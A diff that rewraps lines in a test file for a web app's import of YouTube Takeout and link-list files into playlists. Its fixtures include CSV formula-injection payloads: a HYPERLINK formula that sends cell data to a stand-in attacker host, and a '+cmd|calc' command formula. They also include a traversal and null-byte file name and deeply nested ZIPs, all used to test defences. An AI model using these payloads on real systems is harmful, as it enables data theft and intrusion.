@@ -1,4 +1,5 @@
-// Ann brings a YouTube Takeout or a list of links: each video waits in a playlist and uses her allowance in its turn.
+// Ann brings a YouTube Takeout or a list of links: each video waits in a playlist and
+// uses her allowance in its turn.
 import { zipSync } from 'fflate'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import type { LibraryImport } from '#contract/library-import.ts'
@@ -18,7 +19,10 @@ async function importFile(
   body: NonNullable<RequestInit['body']>,
   name: string,
 ): Promise<LibraryImport> {
-  const response = await person.send(`/api/import?name=${encodeURIComponent(name)}`, { method: 'POST', body })
+  const response = await person.send(`/api/import?name=${encodeURIComponent(name)}`, {
+    method: 'POST',
+    body,
+  })
   expect(response.status).toBe(202)
   const read = async () => (await (await person.send('/api/import')).json()) as LibraryImport
   await expect.poll(async () => (await read()).state).toBe('done')
@@ -41,17 +45,32 @@ const older = [
 
 test.each([
   ['English', english, 'Watch later-videos.csv', 'Watch later', 2],
-  ['German', german, 'Takeout/YouTube und YouTube Music/Playlists/Später ansehen-Videos.csv', 'Später ansehen', 1],
+  [
+    'German',
+    german,
+    'Takeout/YouTube und YouTube Music/Playlists/Später ansehen-Videos.csv',
+    'Später ansehen',
+    1,
+  ],
   ['an older format', older, 'anything.csv', 'Bees, and "more"', 1],
-])('the videos of a Takeout in %s wait in a playlist with its name', async (_, csv, file, name, videos) => {
-  const ann = newPerson(server)
-  await ann.signUpConfirmed()
-  const done = await importFile(ann, csv, file)
-  expect(done).toMatchObject({ source: 'takeout', counts: { videos, unreadable: 0 }, playlists: [{ name }] })
-  const view = (await (await ann.send(`/api/playlists/${done.playlists[0]!.id}`)).json()) as PlaylistView
-  expect(view).toMatchObject({ name, isPublic: false, imports: { length: videos } })
-  expect(view.imports[0]).toMatchObject({ videoId: 'dQw4w9WgXcQ' })
-})
+])(
+  'the videos of a Takeout in %s wait in a playlist with its name',
+  async (_, csv, file, name, videos) => {
+    const ann = newPerson(server)
+    await ann.signUpConfirmed()
+    const done = await importFile(ann, csv, file)
+    expect(done).toMatchObject({
+      source: 'takeout',
+      counts: { videos, unreadable: 0 },
+      playlists: [{ name }],
+    })
+    const view = (await (
+      await ann.send(`/api/playlists/${done.playlists[0]!.id}`)
+    ).json()) as PlaylistView
+    expect(view).toMatchObject({ name, isPublic: false, imports: { length: videos } })
+    expect(view.imports[0]).toMatchObject({ videoId: 'dQw4w9WgXcQ' })
+  },
+)
 
 test('a ZIP of a Takeout becomes a playlist for each list', async () => {
   const ann = newPerson(server)
@@ -63,15 +82,21 @@ test('a ZIP of a Takeout becomes a playlist for each list', async () => {
     'Takeout/playlists/Music-videos.csv': file(english),
     'Takeout/archive_browser.html': file('<html>https://youtu.be/dQw4w9WgXcQ</html>'),
   })
-  expect((await importFile(ann, packed as Uint8Array<ArrayBuffer>, 'takeout.zip')).source).toBe('takeout')
-  expect((await listPlaylists(ann)).map(({ name }) => name).sort()).toEqual(['Music', 'Watch later'])
+  expect((await importFile(ann, packed as Uint8Array<ArrayBuffer>, 'takeout.zip')).source).toBe(
+    'takeout',
+  )
+  expect((await listPlaylists(ann)).map(({ name }) => name).sort()).toEqual([
+    'Music',
+    'Watch later',
+  ])
 })
 
 test('a ZIP within a ZIP is not unpacked, and the person is told what to do', async () => {
   const ann = newPerson(server)
   await ann.signUpConfirmed()
   const inner = zipSync({ 'Takeout/playlists/Moss-videos.csv': new TextEncoder().encode(english) })
-  const nest = (depth: number): Uint8Array => (depth === 0 ? inner : zipSync({ 'takeout-001.zip': nest(depth - 1) }))
+  const nest = (depth: number): Uint8Array =>
+    depth === 0 ? inner : zipSync({ 'takeout-001.zip': nest(depth - 1) })
   for (const depth of [1, 20]) {
     const body = nest(depth) as Uint8Array<ArrayBuffer>
     const response = await ann.send('/api/import?name=takeout.zip', { method: 'POST', body })
@@ -99,9 +124,15 @@ test('hostile names of files in a ZIP become plain names of playlists', async ()
     '',
   ]
   const packed = zipSync(
-    Object.fromEntries(names.map((name) => [`${name}-videos.csv`, new TextEncoder().encode(english)])),
+    Object.fromEntries(
+      names.map((name) => [`${name}-videos.csv`, new TextEncoder().encode(english)]),
+    ),
   )
-  const { playlists, counts } = await importFile(ann, packed as Uint8Array<ArrayBuffer>, '\u202e../\0.zip')
+  const { playlists, counts } = await importFile(
+    ann,
+    packed as Uint8Array<ArrayBuffer>,
+    '\u202e../\0.zip',
+  )
   expect(counts).toMatchObject({ unreadable: 0 })
   // The last two have no name, and become one list.
   expect(playlists).toHaveLength(names.length - 1)
@@ -147,7 +178,13 @@ test('formulas and markup in a CSV stay words', async () => {
   const harmful =
     '=HYPERLINK("https://evil.example?v="&A1),2024-01-01T00:00:00Z\n+cmd|calc!A1,2024-01-01\n-dQw4w9WgXcQ,2024-01-01T00:00:00Z\n"dQw4w9WgXcQ",2024-01-01T00:00:00Z'
   expect(await readVideoLists(harmful, '=1+1<b>-videos.csv', { left: 100 })).toEqual([
-    { kind: 'takeout', name: '=1+1<b>', videoIds: ['dQw4w9WgXcQ'], unreadable: 0, unreadableNames: [] },
+    {
+      kind: 'takeout',
+      name: '=1+1<b>',
+      videoIds: ['dQw4w9WgXcQ'],
+      unreadable: 0,
+      unreadableNames: [],
+    },
   ])
 })
 
@@ -157,10 +194,16 @@ test('lists of one name become one playlist, and none is refused because another
   const file = (text: string) => new TextEncoder().encode(text)
   const ids = (letter: string, count: number) =>
     Array.from({ length: count }, (_, index) => `${letter}${String(index).padStart(10, '0')}`)
-  const links = zipSync({ 'a.txt': file(ids('a', 300).join('\n')), 'b.txt': file(ids('b', 300).join('\n')) })
+  const links = zipSync({
+    'a.txt': file(ids('a', 300).join('\n')),
+    'b.txt': file(ids('b', 300).join('\n')),
+  })
   const done = await importFile(ann, links as Uint8Array<ArrayBuffer>, 'links.zip')
   const [first] = done.playlists
-  expect(done).toMatchObject({ counts: { videos: 600 }, playlists: [{}, { name: `${first?.name} (2)` }] })
+  expect(done).toMatchObject({
+    counts: { videos: 600 },
+    playlists: [{}, { name: `${first?.name} (2)` }],
+  })
 
   const bob = newPerson(server)
   await bob.signUpConfirmed()
@@ -180,7 +223,13 @@ test('lists of one name become one playlist, and none is refused because another
   })
   const { playlists } = await importFile(bob, takeout as Uint8Array<ArrayBuffer>, 'takeout.zip')
   const cut = long.slice(0, 115).trim()
-  expect(playlists.map(({ name }) => name)).toEqual(['Bees', 'Bees (3)', 'Bees (2)', cut, `${cut} (2)`])
+  expect(playlists.map(({ name }) => name)).toEqual([
+    'Bees',
+    'Bees (3)',
+    'Bees (2)',
+    cut,
+    `${cut} (2)`,
+  ])
 })
 
 test('lines that are no video are counted, and five hundred of them are named', async () => {
@@ -196,9 +245,13 @@ test('lines that are no video are counted, and five hundred of them are named', 
 test('twenty thousand lines are read of all files together, and other requests go on meanwhile', async () => {
   const ann = newPerson(server)
   await ann.signUpConfirmed()
-  const file = (lines: number) => new TextEncoder().encode(`dQw4w9WgXcQ${'\nno video'.repeat(lines - 1)}`)
+  const file = (lines: number) =>
+    new TextEncoder().encode(`dQw4w9WgXcQ${'\nno video'.repeat(lines - 1)}`)
   const many = zipSync({ 'a.txt': file(10_000), 'b.txt': file(10_001) })
-  const refused = await ann.send('/api/import', { method: 'POST', body: many as Uint8Array<ArrayBuffer> })
+  const refused = await ann.send('/api/import', {
+    method: 'POST',
+    body: many as Uint8Array<ArrayBuffer>,
+  })
   expect(refused.status).toBe(413)
   expect(await refused.text()).toContain('more than 20,000 lines')
 
@@ -210,7 +263,9 @@ test('twenty thousand lines are read of all files together, and other requests g
   }
   setImmediate(tick)
   const harmful = `dQw4w9WgXcQ\n${`${')'.repeat(299)}a\n`.repeat(1998)}`
-  expect(await readVideoLists(harmful, 'links.txt', { left: 2000 })).toMatchObject([{ unreadable: 1998 }])
+  expect(await readVideoLists(harmful, 'links.txt', { left: 2000 })).toMatchObject([
+    { unreadable: 1998 },
+  ])
   isRead = true
   expect(ticks).toBeGreaterThanOrEqual(19)
 })
@@ -218,5 +273,7 @@ test('twenty thousand lines are read of all files together, and other requests g
 test('a long description does not hide the title of a playlist', async () => {
   const described = older.replace('""",,', `""",${'about bees '.repeat(40)},`)
   expect(described).not.toBe(older)
-  expect(await readVideoLists(described, 'anything.csv', { left: 100 })).toMatchObject([{ name: 'Bees, and "more"' }])
+  expect(await readVideoLists(described, 'anything.csv', { left: 100 })).toMatchObject([
+    { name: 'Bees, and "more"' },
+  ])
 })
